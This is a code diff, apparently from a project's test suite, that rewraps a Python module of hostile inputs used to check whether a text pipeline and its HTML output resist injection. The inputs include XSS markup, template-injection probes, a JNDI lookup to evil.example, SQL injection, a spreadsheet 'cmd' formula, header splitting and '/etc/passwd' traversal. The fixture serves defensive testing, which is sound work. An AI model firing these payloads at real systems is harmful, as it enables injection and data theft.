@@ -1,7 +1,8 @@
-"""A corpus of hostile texts, by what they attack, and a collection with each of them in every field of every format.
+"""A corpus of hostile texts, by what they attack, and a collection with each of them in every field
+of every format.
 
-What would run in a browser sets ``window.pwned``, so that a page can be asked whether anything ran. All of these are
-short; what is dangerous by its size is in ``bombs.py``.
+What would run in a browser sets ``window.pwned``, so that a page can be asked whether anything ran.
+All of these are short; what is dangerous by its size is in ``bombs.py``.
 """
 
 import csv
@@ -29,9 +30,11 @@ PAYLOADS: dict[str, tuple[str, ...]] = {
         "</textarea></title></style></noscript></template>",
         "<![CDATA[<x/>]]>",
         "&lt;script&gt;&#60;script&#62;&amp;lt;&#0;&#x80000000;&nosuch;",
-        "<form action=//evil.example><input name=q autofocus><button formaction=javascript:window.pwned=1>",
+        "<form action=//evil.example><input name=q autofocus>"
+        "<button formaction=javascript:window.pwned=1>",
         "<meta http-equiv=refresh content='0;url=//evil.example/'>",
-        "<link rel=stylesheet href=//evil.example/a.css><style>@import '//evil.example/b.css'</style>",
+        "<link rel=stylesheet href=//evil.example/a.css>"
+        "<style>@import '//evil.example/b.css'</style>",
         "<mark><mark></mark></mark>",
     ),
     "script": (
@@ -87,63 +90,86 @@ PAYLOADS: dict[str, tuple[str, ...]] = {
         f"<svg></p><style><a id='</style><img src=1 onerror={RUN}>'>",
     ),
     "templates": (
-        "{{ 1237*1747 }}", "{% raw %}{{ config }}{% endraw %}", "{% include '/etc/passwd' %}", "{# нет #}",
-        "{{ ''.__class__.__mro__[1].__subclasses__() }}", "${1237*1747}", "<% 1237*1747 %>", "<%= 1237*1747 %>", "#{1237*1747}",
-        "%{1237*1747}", "[[1237*1747]]", "{{constructor.constructor('window.pwned=1')()}}", "${jndi:ldap://evil.example/a}",
+        "{{ 1237*1747 }}", "{% raw %}{{ config }}{% endraw %}", "{% include '/etc/passwd' %}",
+        "{# нет #}",
+        "{{ ''.__class__.__mro__[1].__subclasses__() }}", "${1237*1747}", "<% 1237*1747 %>",
+        "<%= 1237*1747 %>", "#{1237*1747}",
+        "%{1237*1747}", "[[1237*1747]]", "{{constructor.constructor('window.pwned=1')()}}",
+        "${jndi:ldap://evil.example/a}",
         "## python: 1237*1747", "<%! import os %>",
     ),
     "formats": (
-        "%s%s%s%n%x", "%(query)s %(number)d %(", "100% %", "{0} {query} {self.__class__}", "%%%", "$HOME `id` $(id)",
+        "%s%s%s%n%x", "%(query)s %(number)d %(", "100% %", "{0} {query} {self.__class__}", "%%%",
+        "$HOME `id` $(id)",
         "%00 %0d%0a %c0%af %zz %", "{!r:>1000000000}", "\\N{BULLET} \\x1b \\u202e \\",
     ),
     "queries": (
-        "' OR '1'='1", "'; DROP TABLE articles; --", "title:* AND NOT (", "жираф AND * OR ?", "[a TO z] {* TO *}",
-        "жираф^1000~0.9 +\"", "заголовок:заголовок:заголовок:", "дата:9999999999999", "/.*/", "_id:[* TO *]",
-        "жираф) | (жираф", "\"\"\"«»„“\"", "-жираф -НЕ -", "!!!!!! ~~~~~ *****", "а /999999999 б", "жираф & & & жираф",
+        "' OR '1'='1", "'; DROP TABLE articles; --", "title:* AND NOT (", "жираф AND * OR ?",
+        "[a TO z] {* TO *}",
+        "жираф^1000~0.9 +\"", "заголовок:заголовок:заголовок:", "дата:9999999999999", "/.*/",
+        "_id:[* TO *]",
+        "жираф) | (жираф", "\"\"\"«»„“\"", "-жираф -НЕ -", "!!!!!! ~~~~~ *****", "а /999999999 б",
+        "жираф & & & жираф",
         "{\"$gt\": \"\"}", "*:*", "text:жираф _val_:\"recip(1)\"",
     ),
     "terminal": (
-        "\x1b[31mкрасный\x1b[0m", "\x1b[2J\x1b[H", "\x1b]0;чужое название\x07", "\x1b]8;;https://evil.example\x1b\\ссылка\x1b]8;;\x1b\\",
-        "\x1b]52;c;cHduZWQ=\x07", "\x1bP+q544e\x1b\\", "\x9b31mкрасный", "\x9d0;название\x9c", "\x90q\x9c", "\x1bc",
-        "\x08\x08\x08назад", "строка\rповерх", "\x0e\x0f\x05", "звонок\x07", "\x1b[6n", "\x1b[?1049h", "\x7f\x85\x84",
+        "\x1b[31mкрасный\x1b[0m", "\x1b[2J\x1b[H", "\x1b]0;чужое название\x07",
+        "\x1b]8;;https://evil.example\x1b\\ссылка\x1b]8;;\x1b\\",
+        "\x1b]52;c;cHduZWQ=\x07", "\x1bP+q544e\x1b\\", "\x9b31mкрасный", "\x9d0;название\x9c",
+        "\x90q\x9c", "\x1bc",
+        "\x08\x08\x08назад", "строка\rповерх", "\x0e\x0f\x05", "звонок\x07", "\x1b[6n",
+        "\x1b[?1049h", "\x7f\x85\x84",
         "\x1b", "прокрутка\x0b\x0c",
     ),
     "directions": (
-        "\u202eоборот\u202c", "\u202dслева", "\u2066\u2067\u2068изоляция", "\u200f\u200eметка", "\u061cарабская метка",
+        "\u202eоборот\u202c", "\u202dслева", "\u2066\u2067\u2068изоляция", "\u200f\u200eметка",
+        "\u061cарабская метка",
         "\u2069\u202cнепарные", "txt.\u202eexe", "עברית وعربية",
     ),
     "invisible": (
-        "жи\u200bраф", "\u200d\u200c\ufeffжираф", "жи\u00adраф", "\u2060\u180e", "\U000e0041\U000e0042", "\ufff9\ufffa\ufffb",
+        "жи\u200bраф", "\u200d\u200c\ufeffжираф", "жи\u00adраф", "\u2060\u180e",
+        "\U000e0041\U000e0042", "\ufff9\ufffa\ufffb",
         "\u3164\u115f", "👩\u200d👩\u200d👧\u200d👦🇷🇺", "\ufe0f\u20e3", "\u00a0\u2003\u3000",
     ),
     "controls": (
-        "нуль\x00в слове", "\x00", "".join(map(chr, range(1, 32))), "".join(map(chr, range(127, 160))),
-        "\ufffe\uffff\ufdd0\U0001ffff", "\u2028\u2029", "половина \ud800 знака", "\udfff\ud83d", "\udc80\udcff",
+        "нуль\x00в слове", "\x00", "".join(map(chr, range(1, 32))),
+        "".join(map(chr, range(127, 160))),
+        "\ufffe\uffff\ufdd0\U0001ffff", "\u2028\u2029", "половина \ud800 знака", "\udfff\ud83d",
+        "\udc80\udcff",
     ),
     "letters": (
-        "е" + "\u0301" * 500, "ж" + "\u0489\u0335\u0310" * 100 + "и", "жиpaф", "жuраф", "ЖИРАФ\u0130ıſß", "ﷺ" * 50, "ǅ ﬃ №㏒",
+        "е" + "\u0301" * 500, "ж" + "\u0489\u0335\u0310" * 100 + "и", "жиpaф", "жuраф",
+        "ЖИРАФ\u0130ıſß", "ﷺ" * 50, "ǅ ﬃ №㏒",
         "к\u0306и\u0306\u0308ё", "ＨＴＭＬ", "᠀𐀀𝐀", "İstanbul",
     ),
     "tables": (
-        '=HYPERLINK("http://evil.example","x")', "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "＝1+1",
+        '=HYPERLINK("http://evil.example","x")', "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)",
+        "\t=1", "\r=1", "＝1+1",
         '"; =1', "a,b;c\td|e", '""",""', "=1\n=2",
     ),
     "headers": (
-        "x\r\nSet-Cookie: pwned=1", "x\nX-Pwned: 1", "x\r\n\r\n<script>window.pwned=1</script>", "x\u560aX-Pwned: 1",
+        "x\r\nSet-Cookie: pwned=1", "x\nX-Pwned: 1", "x\r\n\r\n<script>window.pwned=1</script>",
+        "x\u560aX-Pwned: 1",
         "x\u2028X-Pwned: 1", '"; filename="pwned.exe', "x%0d%0aX-Pwned: 1",
     ),
     "paths": (
-        "../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "....//....//etc", ".", "..", "~root",
-        "%2e%2e%2f", "..%00", "con", "nul.txt", "a/b/c", "file.txt.html.json", "-rf", "--help", "|id", ".hidden",
+        "../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "....//....//etc", ".",
+        "..", "~root",
+        "%2e%2e%2f", "..%00", "con", "nul.txt", "a/b/c", "file.txt.html.json", "-rf", "--help",
+        "|id", ".hidden",
     ),
     "long": (
-        "ы" * 5000, "а-" * 2500, "(" * 3000, "«" * 3000, "-" * 3000, "!" * 3000, "," * 3000, "9" * 5000, "1 000 " * 500,
-        "г. " * 1000, "Да. " * 1000, "а\u0301-" * 500, "~" * 1000, "*" * 1000, "http://" + "а" * 3000, "&amp;" * 500,
+        "ы" * 5000, "а-" * 2500, "(" * 3000, "«" * 3000, "-" * 3000, "!" * 3000, "," * 3000,
+        "9" * 5000, "1 000 " * 500,
+        "г. " * 1000, "Да. " * 1000, "а\u0301-" * 500, "~" * 1000, "*" * 1000,
+        "http://" + "а" * 3000, "&amp;" * 500,
         "\n" * 500 + "а",
     ),
     "loops": (
-        "a" * 200 + "!", "(a+)+$" + "a" * 100, " " * 1000 + "x", "\t" * 1000 + "\n" * 1000 + "x", "a@" * 500, "1.1." * 500,
-        "<!" * 500, "]]>" * 300, "[" * 500 + "](" * 500, "А. " * 500, "\"" * 1001, "x" * 100 + ": " * 300, "''" * 500,
+        "a" * 200 + "!", "(a+)+$" + "a" * 100, " " * 1000 + "x", "\t" * 1000 + "\n" * 1000 + "x",
+        "a@" * 500, "1.1." * 500,
+        "<!" * 500, "]]>" * 300, "[" * 500 + "](" * 500, "А. " * 500, "\"" * 1001,
+        "x" * 100 + ": " * 300, "''" * 500,
     ),
 }  # fmt: skip
 
@@ -162,7 +188,10 @@ def some() -> list[str]:
 
 
 def write_collection(folder: Path) -> None:
-    """Write each payload in every field of every format, and in the names of files; WORD stands in each article."""
+    """Write each payload in every field of every format, and in the names of files.
+
+    WORD stands in each article.
+    """
     folder.mkdir(parents=True, exist_ok=True)
     for number, payload in enumerate(payloads()):
         for ending, content in _files(payload):
@@ -192,7 +221,8 @@ def _record(payload: str, number: int) -> dict[str, str]:
 
 
 def _with_id(record: dict[str, str], prefix: str) -> dict[str, str]:
-    """The record with another id, a good date, a beginning that makes a link of its address, and more words in each field.
+    """The record with another id, a good date, a beginning that makes a link of its address, and
+    more words in each field.
 
     The words are more than the control characters, of which a source that is full is skipped.
     """
@@ -202,7 +232,10 @@ def _with_id(record: dict[str, str], prefix: str) -> dict[str, str]:
 
 
 def _without_id(record: dict[str, str]) -> dict[str, object]:
-    """The record as other sources have it: Russian names, authors in a list, a source with a name."""
+    """The record as other sources have it.
+
+    Russian names, authors in a list, a source with a name.
+    """
     return {
         "заголовок": record["title"],
         "текст": f"{record['text']} Ещё раз.",
@@ -215,7 +248,10 @@ def _without_id(record: dict[str, str]) -> dict[str, object]:
 def _reprints(record: dict[str, str]) -> str:
     """Two articles that tell the same story, so that there is something to compare."""
     words = record["id"].replace("\n", " ")[:300]
-    told = f"{WORD} {record['id'][-3:]}х переплыл реку у старой мельницы и вышел на берег, где его ждали дети из посёлка {words} "
+    told = (
+        f"{WORD} {record['id'][-3:]}х переплыл реку у старой мельницы и вышел на берег, "
+        f"где его ждали дети из посёлка {words} "
+    )
     pair = [
         {"id": f"{name}{record['id'][-40:]}", "title": f"Река {name} {words}", "text": told + name}
         for name in ("первый", "второй")
@@ -232,13 +268,14 @@ def _files(payload: str) -> Iterator[tuple[str, str]]:
     yield ".txt", head + body
     yield (
         ".md",
-        f"---\ntitle: {json.dumps(payload)}\nsource: {line}\nauthor: [{line}]\n---\n# {payload}{body}",
+        f"---\ntitle: {json.dumps(payload)}\nsource: {line}\n"
+        f"author: [{line}]\n---\n# {payload}{body}",
     )
     yield ".html", _page(payload)
 
 
 def _page(payload: str) -> str:
-    """A page with the payload as markup in its text, and as a text in its metadata and linked data."""
+    """A page with the payload as markup in its text, and as text in its metadata."""
     said = escape(payload, quote=True)
     names = (
         "og:title",
@@ -257,8 +294,10 @@ def _page(payload: str) -> str:
     }
     data = json.dumps(linked).replace("<", "\\u003c")
     return (
-        f"<!doctype html><html><head><title>{said}</title>{metas}<script type='application/ld+json'>{data}</script></head>"
-        f"<body><article><h1>{said}</h1><p>Здесь был {WORD}: {said}</p><p>{payload}</p></article></body></html>"
+        f"<!doctype html><html><head><title>{said}</title>{metas}"
+        f"<script type='application/ld+json'>{data}</script></head>"
+        f"<body><article><h1>{said}</h1><p>Здесь был {WORD}: {said}</p>"
+        f"<p>{payload}</p></article></body></html>"
     )
 
 
@@ -274,7 +313,9 @@ def _table(records: list[dict[str, str]]) -> str:
 
 
 def _name(folder: Path, number: int, payload: str) -> None:
-    """A file with the payload in its name, as far as the file system allows it, and one in a folder with such a name."""
+    """A file with the payload in its name, as far as the file system allows it, and one in a folder
+    with such a name.
+    """
     name = re.sub("[/\0]", "∕", payload).encode("utf-8", "surrogatepass")
     cut = os.fsdecode(name[:200])  # perhaps in the middle of a letter
     with suppress(OSError):
